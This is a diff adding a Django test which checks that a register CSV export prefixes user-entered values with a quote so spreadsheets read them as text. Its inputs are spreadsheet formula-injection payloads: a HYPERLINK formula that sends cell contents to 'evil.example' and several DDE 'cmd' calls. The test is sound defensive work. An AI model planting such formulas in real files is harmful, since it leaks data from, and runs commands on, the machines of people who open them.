@@ -150,3 +150,60 @@ def test_print_the_report_and_the_blank_instrument(clients, report_a, people) ->
     Report.objects.filter(pk=report_a.pk).update(language="fr")
     french = pdf_text(clients["fp_a"].get(f"/national/reports/{report_a.pk}/blank.pdf").content)
     assert "Nom de l'autorité nationale désignée" in french
+
+
+def test_the_register_export_never_holds_a_formula(clients, people) -> None:
+    """Issue 8: what an administrator or a focal point typed in comes out of the CSV as text."""
+    import csv
+    import io
+
+    from codemonitor.registers.services import authority_save
+
+    dangerous = {
+        "authority-name": '=HYPERLINK("https://evil.example/?leak="&A1,"Ministry of Health")',
+        "authority-institution": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "authority-address": "-2+3+cmd|' /C calc'!A0",
+        "authority-telephone": "+cmd|' /C calc'!A0",
+    }
+    response = clients["admin"].post(
+        "/backoffice/registers/authorities/GHA/", {"action": "save", **dangerous}
+    )
+    assert response.status_code == 302
+    # The invitation's first name is the focal point's, shown in the export.
+    clients["admin"].post(
+        "/backoffice/registers/authorities/GHA/",
+        {"action": "invite", "focal-email": "eve@gha.example", "focal-first_name": "=1+2"},
+    )
+    # A focal point's proposal, accepted by an administrator, reaches the register too.
+    clients["fp_b"].post("/national/authority/", {"authority-name": "-1+1"})
+    proposal = NationalAuthorityProposal.objects.get(member_state_id="FRA")
+    clients["admin"].post(f"/backoffice/registers/proposals/{proposal.pk}/accept/")
+    # Forms strip a leading tab or carriage return; the service keeps them.
+    authority_save(
+        member_state_id="KEN",
+        data={"name": "\t=1+1", "address": "\r=1+1", "telephone": "-5"},
+        user=people["admin"],
+    )
+
+    download = clients["admin"].get("/backoffice/registers/authorities.csv")
+    assert download.status_code == 200
+    assert download["Content-Type"].startswith("text/csv")
+    rows = {
+        row["iso3"]: row
+        for row in csv.DictReader(io.StringIO(download.content.decode("utf-8"), newline=""))
+    }
+    ghana = rows["GHA"]
+    for field, value in dangerous.items():
+        assert ghana[field.removeprefix("authority-")] == "'" + value
+    assert ghana["focal_points"] == "'=1+2; fp@gha.example"
+    assert rows["FRA"]["name"] == "'-1+1"
+    assert (rows["KEN"]["name"], rows["KEN"]["address"]) == ("'\t=1+1", "'\r=1+1")
+    assert rows["KEN"]["telephone"] == "'-5"  # text, even when it looks like a number
+    dangerous_start = ("=", "+", "-", "@", "\t", "\r")
+    assert not [
+        (iso3, name, value)
+        for iso3, row in rows.items()
+        for name, value in row.items()
+        if value.startswith(dangerous_start)
+    ]
+    assert rows["BRA"]["name"] == ""  # a Member State without an entry: empty cells
